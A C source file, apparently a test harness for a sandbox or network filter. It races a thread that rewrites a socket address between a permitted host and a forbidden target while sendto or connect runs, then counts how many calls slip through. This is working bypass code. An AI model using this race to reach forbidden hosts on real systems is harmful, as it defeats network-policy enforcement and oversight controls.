// SPDX-License-Identifier: Apache-2.0
//
// A second thread rewrites the address between the one that is allowed and the one that is not, while it is being used.
//   race sendto|connect|tcp ADDRESS PORT ALLOWED TRIES
#include "attack.h"
#include <pthread.h>

static struct target target, allowed;
static struct sockaddr_storage shared;
static volatile int began, over;

static void *rewrite(void *unused)
{
	/* Only what differs: the address itself, in one store, or in two for IPv6. */
	volatile uint32_t *four = &((struct sockaddr_in *)&shared)->sin_addr.s_addr;
	volatile uint32_t *six = ((struct sockaddr_in6 *)&shared)->sin6_addr.s6_addr32;
	int is_four = shared.ss_family == AF_INET;

	began = 1;
	while (!over) {
		for (int i = 0; i < (is_four ? 1 : 4); i++)
			(is_four ? four : six)[i] = is_four ? v4(&target).s_addr : v6(&target).s6_addr32[i];
		for (int i = 0; i < (is_four ? 1 : 4); i++)
			(is_four ? four : six)[i] = is_four ? v4(&allowed).s_addr : v6(&allowed).s6_addr32[i];
	}
	return unused;
}

/* True when the call went through, to whichever of the two. */
static int try_once(const char *mode, int fd)
{
	const struct linger reset = {.l_onoff = 1};
	int good;

	if (!strcmp(mode, "sendto"))
		return sendto(fd, PAYLOAD, sizeof(PAYLOAD), MSG_DONTWAIT, (struct sockaddr *)&shared, target.size) > 0;
	if (!strcmp(mode, "connect"))
		return connect(fd, (struct sockaddr *)&shared, target.size) == 0 &&
		       send(fd, PAYLOAD, sizeof(PAYLOAD), MSG_DONTWAIT) > 0;
	fd = must(socket(shared.ss_family, SOCK_STREAM | SOCK_NONBLOCK, 0), "socket");
	good = is_under_way(connect(fd, (struct sockaddr *)&shared, target.size));
	setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	close(fd);
	return good;
}

int main(int argc, char **argv)
{
	pthread_t thread;
	long tries, through = 0;
	int fd;

	if (argc != 6)
		usage("race sendto|connect|tcp ADDRESS PORT ALLOWED TRIES");
	target = target_of(argv[2], argv[3]);
	allowed = target_of(argv[4], argv[3]);
	shared = allowed.storage;
	tries = atol(argv[5]);
	fd = must(socket(shared.ss_family, SOCK_DGRAM, 0), "socket");
	if (pthread_create(&thread, NULL, rewrite, NULL) != 0)
		impossible("thread");
	while (!began)
		usleep(100);
	for (long i = 0; i < tries; i++)
		through += try_once(argv[1], fd);
	over = 1;
	pthread_join(thread, NULL);
	printf("%ld of %ld calls went through\n", through, tries);
	if (through == 0)
		return REFUSED;
	return sent();
}
